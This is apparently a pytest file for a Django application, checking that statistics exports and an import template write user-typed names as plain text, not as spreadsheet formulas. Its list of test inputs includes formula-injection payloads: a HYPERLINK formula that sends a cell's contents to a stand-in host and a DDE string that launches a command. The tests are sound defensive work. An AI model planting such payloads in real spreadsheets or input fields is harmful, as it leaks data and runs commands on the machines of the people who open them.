"""Excel files we write never run what users typed: text that a spreadsheet would read
as a formula (=, +, -, @, tab, carriage return first) is written as plain text."""

import io

import openpyxl
import pytest
from django.urls import reverse

from members.spreadsheet import build_template
from tests.factories import CellFactory

HOSTILE_NAMES = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")',
    "=1+1",
    "+1+1",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def formula_cells(workbook):
    return [
        (sheet.title, cell.coordinate, cell.value)
        for sheet in workbook.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.data_type == "f"
    ]


def test_the_statistics_export_writes_hostile_cell_names_as_text(world, login):
    for name in HOSTILE_NAMES:
        CellFactory(name=name, parent=world.commune)
    response = login(world.reviewer).get(
        reverse("oversight:statistics_xlsx", args=[world.commune.pk, 2026])
    )
    assert response.status_code == 200
    workbook = openpyxl.load_workbook(io.BytesIO(response.content))
    # The export computes its totals itself: it writes no formula at all.
    assert formula_cells(workbook) == []
    written = {
        cell.value
        for sheet in workbook.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if isinstance(cell.value, str)
    }
    for name in HOSTILE_NAMES:
        stored = " ".join(name.split())  # names are stored with white space collapsed
        assert stored in written, stored
    per_cell = workbook.worksheets[1]
    for row in per_cell.iter_rows(min_row=2):
        if isinstance(row[1].value, str) and row[1].value[:1] in "=+-@":
            assert row[1].data_type == "s"
            assert row[1].quotePrefix


@pytest.mark.django_db
def test_the_import_template_has_no_formula():
    workbook = openpyxl.load_workbook(io.BytesIO(build_template()))
    assert formula_cells(workbook) == []
